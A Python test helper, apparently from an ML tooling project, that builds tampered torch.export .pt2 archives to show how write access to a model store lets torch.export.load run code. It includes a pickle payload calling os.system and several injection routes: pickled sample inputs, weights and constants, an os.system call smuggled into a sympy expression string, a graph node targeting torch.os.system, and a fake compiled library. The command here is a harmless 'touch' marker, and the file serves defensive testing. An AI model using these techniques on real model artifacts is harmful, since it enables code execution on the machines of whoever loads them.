"""torch.export archives (.pt2) altered the ways that make torch.export.load run code: what someone with
write access to a store's artifacts could do to a logged model."""

from __future__ import annotations

import io
import json
import warnings
import zipfile
from pathlib import Path


class Payload:
    """Unpickling this runs `touch marker`."""

    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        import os

        return (os.system, (f"touch {self.marker}",))


def pickled_payload(marker) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(Payload(marker), buffer)
    return buffer.getvalue()


def tamper(source: Path, target: Path, how: str, marker: Path) -> None:
    """Copy the archive at source to target, altered by `how`:

    sample-inputs: the sample inputs are a pickled os.system call (torch falls back to weights_only=False);
    pickled-weight: a weight marked use_pickle and stored as that pickle;
    opaque-constant: a constant stored as an opaque object (plain pickle.loads);
    expression: a symbolic size whose expression calls os.system (torch hands it to sympy.sympify);
    target: a graph node that calls torch.os.system;
    compiled: an AOTInductor library beside the program (torch dlopens it);
    duplicate: a second, different record of the same name.
    """
    with zipfile.ZipFile(source) as original:
        records = [(info, original.read(info)) for info in original.infolist()]
    root = records[0][0].filename.split("/", 1)[0]
    command, pickled = f"touch {marker}", None
    with zipfile.ZipFile(target, "w") as altered:
        for info, data in records:
            member = info.filename[len(root) + 1:]
            if how == "sample-inputs" and member.startswith("data/sample_inputs/"):
                data = pickled_payload(marker)
            elif how == "pickled-weight" and member.endswith("_weights_config.json"):
                config = json.loads(data)
                key = next(iter(config["config"]))
                config["config"][key]["use_pickle"] = True
                data = json.dumps(config).encode()
                pickled = f"{root}/data/weights/{config['config'][key]['path_name']}"
            elif how == "pickled-weight" and info.filename == pickled:
                data = pickled_payload(marker)
            elif how == "opaque-constant" and member.endswith("_constants_config.json"):
                config = json.loads(data)
                config["config"]["evil"] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
                                            "tensor_meta": None}
                data = json.dumps(config).encode()
                altered.writestr(f"{root}/data/constants/opaque_obj_0", pickled_payload(marker))
            elif how == "expression" and member.startswith("models/"):
                text = data.decode()
                start = text.index('"expr_str": "') + len('"expr_str": "')
                data = (text[:start] + f"0*len(__import__('os').system('{command}') * 'a') + " + text[start:]).encode()
            elif how == "target" and member.startswith("models/"):
                program = json.loads(data)
                program["graph_module"]["graph"]["nodes"][0]["target"] = "torch.os.system"
                data = json.dumps(program).encode()
            elif how == "duplicate" and member.startswith("data/sample_inputs/"):
                altered.writestr(info, pickled_payload(marker))
            with warnings.catch_warnings():  # zipfile warns of the duplicate it is asked to write
                warnings.simplefilter("ignore")
                altered.writestr(info, data)
        if how == "compiled":
            altered.writestr(f"{root}/data/aotinductor/model/model.so", b"\x7fELF")


def logged_program(model_dir: Path) -> Path:
    """The pt2 program inside an MLflow model folder dlrun logged (a text model's or a features model's)."""
    text = model_dir / "data" / "text_model" / "model.pt2"
    return text if text.is_file() else model_dir / "data" / "model.pt2"
